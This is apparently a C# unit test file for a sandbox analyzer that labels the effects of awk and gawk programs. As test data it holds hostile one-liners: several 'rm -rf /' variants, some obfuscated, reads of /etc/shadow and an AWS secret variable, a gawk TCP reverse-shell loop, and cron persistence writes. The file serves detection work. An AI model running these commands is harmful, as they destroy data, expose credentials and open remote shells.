using Pharos.Shell.Effects;

namespace Pharos.Shell.Tests.Effects.Languages.Awk;

public sealed class AwkProgramTests
{
    [Theory]
    [InlineData("{print $2}")]
    [InlineData("NR > 1 && $3 >= 10 || /foo|bar/ {s += $1; n++} END {printf \"%.2f\\n\", s / n}")]
    [InlineData("BEGIN {FS = \"|\"; OFS = \",\"} {gsub(/[\\/|]/, \"_\", $2); print toupper($1), (length($0) > 5)}")]
    [InlineData("!seen[$0]++")]
    [InlineData("function f(a) {return a * 2} {if (f($1) > 3) print (($2 > 4) ? \"a\" : \"b\")}")]
    [InlineData("{a[$1] = a[$1] \"|\" $2} END {for (k in a) print k, a[k] | \"sort -k1\"}")]
    [InlineData("# system(\"rm -rf /\")\n{print \"system(x)\" /* */}")]
    public void A_program_that_prints_has_no_effect_of_its_own(string program) =>
        Sandbox.Analyze($"awk '{program}'").Effects.ShouldBeEmpty();

    [Theory]
    [InlineData("awk 'BEGIN {system(\"rm -rf /\")}'")]
    [InlineData("awk 'BEGIN {c = \"rm \" \"-rf /\"; system(c)}'")]
    [InlineData("awk -v d=/ 'BEGIN {system(\"rm -rf \" d)}'")]
    [InlineData("gawk 'BEGIN {system(sprintf(\"rm -rf %s\", \"/\"))}'")]
    [InlineData("awk '{print \"x\" | \"rm -rf /\"}'")]
    [InlineData("awk 'BEGIN {\"rm -rf /\" | getline x}'")]
    [InlineData("awk 'BEGIN {while ((\"rm -rf /\") | getline l) print l}'")]
    [InlineData("awk 'BEGIN {print \"rm -rf /\" | \"sh\"}'", false)]
    [InlineData("gawk -e 'BEGIN {system(\"rm -rf /\")}'")]
    [InlineData("gawk --source='BEGIN {system(\"rm -rf /\")}'")]
    [InlineData("awk 'BEGIN {system(\"\\162\\155 -rf /\")}'")]
    public void A_command_that_a_program_runs_is_found(string script, bool known = true)
    {
        var effects = Sandbox.Analyze(script).Effects;
        effects.ShouldContain(effect => known ? effect.Kind == EffectKind.Delete && effect.Target == "/" : effect.Kind == EffectKind.Execute && effect.Certainty == Certainty.Unknown);
    }

    [Theory]
    [InlineData("awk '{print > \"/etc/passwd\"}' x", "Write Certain /etc/passwd")]
    [InlineData("awk '{print $1, $2 >> \"out.txt\"}' x", "Write Certain /workspace/out.txt")]
    [InlineData("awk '{f = \"a\" \".txt\"; print > f}' x", "Write Certain /workspace/a.txt")]
    [InlineData("awk '{print > $1}' x", "Write Unknown awk output")]
    [InlineData("awk 'BEGIN {while ((getline l < \"/etc/shadow\") > 0) print l}'", "ExposeSecret Certain /etc/shadow")]
    [InlineData("awk 'BEGIN {ARGV[1] = \"/etc/shadow\"; ARGC = 2} {print}'", "ExposeSecret Certain /etc/shadow")]
    [InlineData("gawk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while (1) {s |& getline c; c |& getline x; print x |& s}}'", "Network Certain 10.0.0.1:4444")]
    [InlineData("awk '{system($0)}' x", "Execute Unknown awk system")]
    [InlineData("awk 'BEGIN {c = \"ls\"; if (x) c = $1; system(c)}'", "Execute Unknown awk system")]
    [InlineData("awk '{$1 | getline x}' x", "Execute Unknown awk system")]
    [InlineData("gawk '@load \"filefuncs\"; BEGIN {chdir(\"/\")}'", "Execute Unknown awk chdir()")]
    [InlineData("gawk 'BEGIN {f = \"system\"; @f(\"id\")}'", "Execute Unknown awk @")]
    [InlineData("awk 'BEGIN {print ENVIRON[\"AWS_SECRET_ACCESS_KEY\"]}'", "ExposeSecret Possible AWS_SECRET_ACCESS_KEY")]
    [InlineData("awk -f prog.awk x", "Execute Certain /workspace/prog.awk")]
    [InlineData("gawk -o/etc/cron.d/x '{print}'", "Persist Certain /etc/cron.d/x")]
    public void What_a_program_does_is_named(string script, string effect) => Sandbox.Analyze(script).Effects.Select(static found => $"{found.Kind} {found.Certainty} {found.Target}").ShouldContain(effect);
}
